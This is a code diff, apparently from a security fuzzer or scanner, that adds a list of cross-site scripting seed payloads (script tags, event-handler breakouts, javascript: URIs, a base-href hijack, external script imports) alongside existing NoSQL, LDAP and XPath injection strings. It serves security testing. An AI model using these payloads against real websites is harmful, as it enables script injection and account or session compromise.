@@ -13,4 +13,11 @@ var seeds = map[Class][]string{
 	NoSQLi: {"$ne", "user[$gt]", `{"$where":"sleep(100)"}`, "';return true;var a='", "[$regex]"},
 	LDAPi:  {"*)(uid=*))(|(uid=*", "admin)(&)", "*)(objectClass=*"},
 	XPathi: {"' or '1'='1", "x' or name()='a' or 'x'='y", "']|//user/*|//a['", "count(/child::node())=1"},
+	XSS: {
+		"<script>alert(1)</script>", `"><img src=x onerror=alert(1)>`, "<svg/onload=alert`1`>", `" onmouseover="alert(1)`,
+		"' autofocus onfocus=alert(1) x='", "javascript:alert(1)", "jav\tascript&colon;alert(1)", "<a href=data:text/html,x>",
+		"';alert(1)//", "\"-alert(1)-\"", "<iframe srcdoc='<script>alert(1)</script>'>", "<div style=width:expression(alert(1))>",
+		"alert(document.domain)", "[][(![]+[])[+[]]+([![]]+[][[]])[+!+[]+[+[]]]", "<base href=//evil>", "</title><script src=//x>",
+		"<style>@import'//x'</style>", "\\u0061lert(1)", "`-alert(1)-`", "<?xml-stylesheet href=x?>",
+	},
 }
